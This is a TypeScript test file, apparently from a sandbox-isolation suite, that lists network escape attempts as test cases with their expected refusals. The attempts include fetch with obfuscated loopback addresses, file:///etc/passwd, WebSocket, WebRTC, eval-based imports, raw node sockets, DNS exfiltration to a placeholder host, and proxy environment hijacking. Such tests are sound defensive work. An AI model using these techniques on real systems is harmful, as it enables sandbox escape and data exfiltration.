/** Reaching a server. Whatever the handler is told: nobody may have come there. */

import type { EscapeCase } from '../contract'

const names = (id: string, tries: string, name: string, use: string): EscapeCase => ({
  id,
  tries,
  attack: `if (typeof ${name} === 'undefined') return 'absent'; ${use}`,
  fails: ['absent'],
})

const imports = (id: string, tries: string, expression: string): EscapeCase => ({
  id,
  tries,
  attack: `return Object.keys(await ${expression})`,
  fails: ['refused', 'silent'],
})

export const NETWORK: readonly EscapeCase[] = [
  {
    id: 'fetch',
    tries: 'fetch',
    attack: `return (await fetch(event.url + '/fetch')).status`,
    fails: [/TypeError/],
  },
  {
    id: 'fetch-modes',
    tries: 'fetch in every mode, kept alive, with credentials, from every referrer',
    attack: `
      const got = []
      for (const options of [{ mode: 'no-cors' }, { keepalive: true, method: 'POST', body: 'x' }, { credentials: 'include' }, { cache: 'force-cache' }, { priority: 'high' }, { redirect: 'manual' }, { duplex: 'half', method: 'POST', body: new Blob(['x']).stream() }]) {
        try { got.push((await fetch(new Request(event.url + '/modes', options))).type) } catch {}
      }
      return got`,
    fails: [{ gives: [] }],
  },
  {
    id: 'fetch-schemes',
    tries: 'fetch of other schemes: file, blob, data, ftp, about, filesystem',
    attack: `
      const got = []
      for (const url of ['file:///etc/passwd', 'blob:null/00000000-0000-0000-0000-000000000000', 'ftp://' + event.host, 'about:blank', 'filesystem:' + event.url, '//' + event.host + ':' + event.port + '/relative', '/etc/passwd']) {
        try { const answer = await fetch(url); if (answer.status !== NOT_SIMULATED) got.push(url + ' ' + answer.status) } catch {}
      }
      return got`,
    fails: [{ gives: [] }],
  },
  {
    id: 'fetch-addresses',
    tries: 'fetch of the machine by other names: IPv6, decimal, octal, 0, localhost with a dot',
    attack: `
      const got = []
      for (const name of ['localhost', '[::1]', '[::ffff:127.0.0.1]', '2130706433', '0x7f000001', '0177.0.0.1', '0', '0.0.0.0', 'localhost.', '127.1']) {
        try { const { status } = await fetch('http://' + name + ':' + event.port + '/name'); if (status !== NOT_SIMULATED) got.push(name + ' ' + status) } catch {}
      }
      return got`,
    fails: [{ gives: [] }],
  },
  {
    id: 'original-fetch',
    tries: 'the browser’s fetch, through whatever may have kept it',
    attack: `
      const candidates = [fetch.constructor.prototype.fetch, Object.getPrototypeOf(fetch).fetch, Request.prototype.fetch, globalThis.__proto__?.fetch, globalThis.__proto__?.__proto__?.fetch].filter(Boolean)
      const native = candidates.concat(fetch).filter((value) => /native code/.test(Function.prototype.toString.call(value)))
      if (native.length === 0) return 'absent'
      return await Promise.all(native.map((call) => call.call(globalThis, event.url + '/original').then(String)))`,
    fails: ['absent'],
  },
  names(
    'xhr',
    'XMLHttpRequest',
    'XMLHttpRequest',
    `const request = new XMLHttpRequest(); request.open('GET', event.url + '/xhr', false); request.send(); return request.status`,
  ),
  names(
    'websocket',
    'WebSocket',
    'WebSocket',
    `return await new Promise((resolve) => { new WebSocket(event.ws).onopen = () => resolve('open') })`,
  ),
  names(
    'websocket-stream',
    'WebSocketStream',
    'WebSocketStream',
    `return String(await new WebSocketStream(event.ws).opened)`,
  ),
  names('event-source', 'EventSource', 'EventSource', `return new EventSource(event.url + '/events').readyState`),
  names(
    'webtransport',
    'WebTransport',
    'WebTransport',
    `return String(await new WebTransport('https://' + event.host + ':' + event.port).ready)`,
  ),
  names(
    'webrtc',
    'WebRTC, to a STUN server',
    'RTCPeerConnection',
    `const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + event.host + ':' + event.udp }] }); peer.createDataChannel('x'); await peer.setLocalDescription(await peer.createOffer()); return 'offered'`,
  ),
  names(
    'import-scripts',
    'importScripts',
    'importScripts',
    `importScripts(event.url + '/scripts.js'); return 'imported'`,
  ),
  names('worker', 'a worker from the server', 'Worker', `new Worker(event.url + '/worker.js'); return 'started'`),
  names('font', 'a font', 'FontFace', `return await new FontFace('x', 'url(' + event.url + '/font)').load()`),
  names('background-fetch', 'background fetch and push', 'BackgroundFetchManager', `return 'there'`),
  {
    id: 'beacon',
    tries: 'navigator.sendBeacon',
    attack: `return typeof navigator.sendBeacon === 'function' ? navigator.sendBeacon(event.url + '/beacon', 'x') : 'absent'`,
    fails: ['absent'],
  },
  imports(
    'import-evaluated',
    'import() in eval',
    `(0, eval)('import(' + JSON.stringify(event.url + '/eval.js') + ')')`,
  ),
  imports(
    'import-function',
    'import() in new Function',
    `new Function('return import(' + JSON.stringify(event.url + '/function.js') + ')')()`,
  ),
  imports(
    'import-async-function',
    'import() in AsyncFunction',
    `(async () => {}).constructor('return import(' + JSON.stringify(event.url + '/async.js') + ')')()`,
  ),
  imports(
    'import-json',
    'import() of JSON',
    `(0, eval)('import(' + JSON.stringify(event.url + '/data.json') + ', { with: { type: "json" } })')`,
  ),
  imports(
    'import-css',
    'import() of a style sheet',
    `(0, eval)('import(' + JSON.stringify(event.url + '/style.css') + ', { with: { type: "css" } })')`,
  ),
  imports(
    'import-data-static',
    'a data: module that imports from the server',
    `(0, eval)('import(' + JSON.stringify('data:text/javascript,import "' + event.url + '/static.js"') + ')')`,
  ),
  imports(
    'import-data-dynamic',
    'a data: module that imports from the server later',
    `(0, eval)('import(' + JSON.stringify('data:text/javascript,await import("' + event.url + '/dynamic.js")') + ')')`,
  ),
  imports(
    'import-blob',
    'a blob: module that imports from the server',
    `(0, eval)('import(' + JSON.stringify(URL.createObjectURL(new Blob(['export * from "' + event.url + '/blob.js"'], { type: 'text/javascript' }))) + ')')`,
  ),
  {
    id: 'source-map',
    tries: 'a source map, or a script’s name, at the server',
    attack: `
      const run = (0, eval)('(function () { throw new Error("mapped") })\\n//# sourceURL=' + event.url + '/source.js\\n//# sourceMappingURL=' + event.url + '/source.js.map')
      try { run() } catch (error) { return /source\\.js/.test(String(error.stack)) ? 'a name only' : 'no name' }`,
    fails: [{ gives: 'a name only' }, { gives: 'no name' }],
  },
  {
    id: 'wasm-streaming',
    tries: 'WebAssembly from the server',
    attack: `return String(await WebAssembly.instantiateStreaming(fetch(event.url + '/module.wasm')))`,
    fails: ['refused'],
  },
  {
    id: 'response-redirect',
    tries: 'a redirect to the server, and a Response that pretends to come from there',
    attack: `
      const answer = Response.redirect(event.url + '/redirect', 302)
      return [answer.status, (await answer.text()).length, Response.error().type]`,
    fails: [{ gives: [302, 0, 'error'] }],
  },
  {
    id: 'node-http',
    tries: 'node:http and node:https',
    attack: `
      const attempt = (name) => new Promise((resolve) => {
        require(name).get(event.url.replace(/^http/, name.slice(5)) + '/node', (answer) => resolve(answer.statusCode)).on('error', (error) => resolve(error.code))
      })
      return [await attempt('node:http'), await attempt('node:https')]`,
    fails: [{ gives: ['ECONNREFUSED', 'ECONNREFUSED'] }],
  },
  {
    id: 'node-net',
    tries: 'a socket of node:net',
    attack: `return await new Promise((resolve, reject) => { require('node:net').connect(event.port, event.host).on('connect', () => resolve('connected')).on('error', reject) })`,
    fails: ['refused'],
  },
  {
    id: 'node-tls',
    tries: 'a socket of node:tls',
    attack: `return await new Promise((resolve, reject) => { require('node:tls').connect(event.port, event.host).on('secureConnect', () => resolve('connected')).on('error', reject) })`,
    fails: ['refused'],
  },
  {
    id: 'node-dgram',
    tries: 'a datagram',
    attack: `return await new Promise((resolve, reject) => { const socket = require('node:dgram').createSocket('udp4'); socket.on('error', reject); socket.send('x', event.udp, event.host, (error) => error ? reject(error) : resolve('sent')) })`,
    fails: ['refused'],
  },
  {
    id: 'node-http2',
    tries: 'node:http2',
    attack: `return await new Promise((resolve, reject) => { require('node:http2').connect(event.url).on('connect', () => resolve('connected')).on('error', reject) })`,
    fails: ['refused'],
  },
  {
    id: 'node-dns',
    tries: 'names that tell by being looked up',
    attack: `
      const dns = require('node:dns').promises
      const got = []
      for (const ask of ['lookup', 'resolve4', 'resolveTxt']) try { got.push(await dns[ask]('secret.exfiltrated.example')) } catch {}
      return got`,
    fails: [{ gives: [] }],
  },
  {
    id: 'sdk-endpoint',
    tries: 'an SDK client with the server as its endpoint',
    attack: `
      const request = { method: 'POST', headers: { 'x-amz-target': 'AmazonSQS.ListQueues', 'content-type': 'application/x-amz-json-1.0' }, body: '{}' }
      return (await fetch(event.url + '/sdk', request)).status`,
    fails: [/TypeError/],
  },
  {
    id: 'proxy-settings',
    tries: 'proxies in the environment’s variables',
    attack: `
      Object.assign(process.env, { HTTP_PROXY: event.url, HTTPS_PROXY: event.url, http_proxy: event.url, NODE_EXTRA_CA_CERTS: event.url, NODE_OPTIONS: '--import=' + event.url, AWS_ENDPOINT_URL: event.url })
      const answer = await fetch('https://example.com/').then((value) => value.status, (error) => error.cause?.code ?? error.name)
      for (const name of ['HTTP_PROXY', 'HTTPS_PROXY', 'http_proxy', 'NODE_EXTRA_CA_CERTS', 'NODE_OPTIONS', 'AWS_ENDPOINT_URL']) delete process.env[name]
      return typeof answer === 'string' || answer === NOT_SIMULATED ? 'absent' : answer`,
    fails: ['absent'],
  },
  {
    id: 'csp-report',
    tries: 'a report of a violated policy to the server',
    attack: `
      try { await (0, eval)('import(' + JSON.stringify(event.url + '/violation.js') + ')') } catch {}
      return typeof ReportingObserver === 'undefined' && typeof SecurityPolicyViolationEvent === 'undefined' ? 'absent' : 'reports'`,
    fails: ['absent', 'silent'],
  },
  {
    id: 'request-constructor',
    tries: 'the browser’s own Request and Response, through subclasses and iterators',
    attack: `
      class Mine extends Request {}
      const request = new Mine(event.url + '/subclass')
      const native = [Object.getPrototypeOf(Mine), Object.getPrototypeOf(Object.getPrototypeOf(request)).constructor, new Response('').constructor]
        .filter((value) => /native code/.test(Function.prototype.toString.call(value)))
      return native.length === 0 ? 'absent' : native.map((value) => value.name)`,
    fails: ['absent'],
  },
]
